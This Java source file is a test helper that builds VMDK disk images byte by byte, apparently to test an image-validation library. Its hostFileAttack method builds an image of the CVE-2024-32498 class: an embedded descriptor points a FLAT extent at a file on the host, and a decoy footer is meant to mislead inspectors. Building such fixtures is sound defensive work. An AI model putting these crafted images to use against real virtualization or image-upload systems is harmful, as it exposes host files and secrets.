package io.imgtrust.core.format;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Crafts VMDK files byte by byte for tests: a sparse extent ({@code KDMV}) whose header, embedded descriptor and
 * optional footer are chosen freely, and text descriptor files. The grain directory (sector 21, one empty entry) is
 * valid, so qemu opens a well-formed result as an all-zero disk.
 */
public final class VmdkWriter {
  /** The embedded descriptor starts here (sector 1), as qemu and VMware put it. */
  static final int DESCRIPTOR_SECTOR = 1;
  /** A second descriptor, named only by the footer, starts here (outside the 10 KiB qemu reads from 512). */
  static final int FOOTER_DESCRIPTOR_SECTOR = 40;
  static final int SIZE = 64 << 10;

  private long capacity = 2048;
  private String descriptor = descriptor("monolithicSparse", "RW 2048 SPARSE \"disk.vmdk\"");
  private long footerCapacity = -1;
  private String footerDescriptor;

  private VmdkWriter() {}

  /** A monolithicSparse extent of 2048 sectors with a one-extent descriptor naming itself. */
  public static VmdkWriter sparse() {
    return new VmdkWriter();
  }

  /** The capacity of the first header, in sectors. */
  public VmdkWriter capacity(long sectors) {
    this.capacity = sectors;
    return this;
  }

  /** The descriptor embedded at sector 1 and named by the first header (none when null). */
  public VmdkWriter descriptor(String text) {
    this.descriptor = text;
    return this;
  }

  /**
   * Puts the grain directory "at the end": the first header says {@code GD_AT_END} and a footer header of
   * {@code sectors} capacity follows, naming {@code text} at sector 40 as its descriptor (the first one when null).
   */
  public VmdkWriter footer(long sectors, String text) {
    this.footerCapacity = sectors;
    this.footerDescriptor = text;
    return this;
  }

  public byte[] build() {
    int length = SIZE + (footerCapacity >= 0 ? 3 * 512 : 0);
    ByteBuffer b = ByteBuffer.allocate(length).order(ByteOrder.LITTLE_ENDIAN);
    long gd = footerCapacity >= 0 ? VmdkHeader.GD_AT_END : 21;
    TestImages.vmdkHeader(b, 0, capacity, descriptor == null ? 0 : DESCRIPTOR_SECTOR, gd);
    put(b, DESCRIPTOR_SECTOR, descriptor);
    if (footerCapacity >= 0) {
      put(b, FOOTER_DESCRIPTOR_SECTOR, footerDescriptor);
      int end = SIZE;
      b.putInt(end + 12, VmdkReader.MARKER_FOOTER);
      TestImages.vmdkHeader(b, end + 512, footerCapacity,
          footerDescriptor == null ? DESCRIPTOR_SECTOR : FOOTER_DESCRIPTOR_SECTOR, 21);
    }
    return b.array();
  }

  /** Writes {@link #build()} to {@code file}. */
  public Path write(Path file) throws IOException {
    return Files.write(file, build());
  }

  private static void put(ByteBuffer b, int sector, String text) {
    if (text != null) {
      b.put(sector * 512, text.getBytes(StandardCharsets.ISO_8859_1));
    }
  }

  /** Descriptor text of {@code createType} with the given extent lines, as qemu-img writes it. */
  public static String descriptor(String createType, String... extents) {
    return "# Disk DescriptorFile\nversion=1\nCID=12345678\nparentCID=ffffffff\ncreateType=\"" + createType
        + "\"\n\n# Extent description\n" + String.join("\n", extents) + "\n\n# The Disk Data Base\n#DDB\n";
  }

  /**
   * The attack of CVE-2024-32498's class: the first header has capacity 0 and names an embedded descriptor, which
   * qemu opens as a descriptor file whose FLAT extent is {@code hostFile} ({@code sectors} long); a footer with a
   * sane header and a harmless streamOptimized descriptor is what an inspector reading the footer first sees.
   */
  public static byte[] hostFileAttack(Path hostFile, long sectors) {
    return sparse().capacity(0)
        .descriptor(descriptor("monolithicFlat", "RW " + sectors + " FLAT \"" + hostFile + "\" 0"))
        .footer(sectors, descriptor("streamOptimized", "RW " + sectors + " SPARSE \"disk.vmdk\""))
        .build();
  }

  /** A text descriptor file (no binary header at all). */
  public static byte[] descriptorFile(String createType, String... extents) {
    return descriptor(createType, extents).getBytes(StandardCharsets.ISO_8859_1);
  }
}
